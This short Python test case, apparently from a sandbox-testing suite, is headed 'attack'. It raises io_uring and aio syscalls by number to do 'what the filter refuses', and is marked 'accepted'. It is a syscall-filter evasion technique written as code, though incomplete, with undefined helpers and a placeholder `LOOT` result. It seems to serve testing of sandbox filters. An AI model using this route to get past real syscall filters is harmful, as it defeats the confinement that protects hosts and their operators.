# /// attack
# tries = "Do by io_uring what the filter refuses."
# verdicts = ["accepted"]
# ///
def attack(root, worker):
    system_call("io_uring_setup", 425, 8, ctypes.create_string_buffer(120))
    system_call("io_uring_enter", 426, 3, 1, 0, 0, 0, 0)
    system_call("io_uring_register", 427, 3, 0, 0, 0)
    system_call("io_setup", 206, 8, ctypes.byref(ctypes.c_ulong()))
    return LOOT
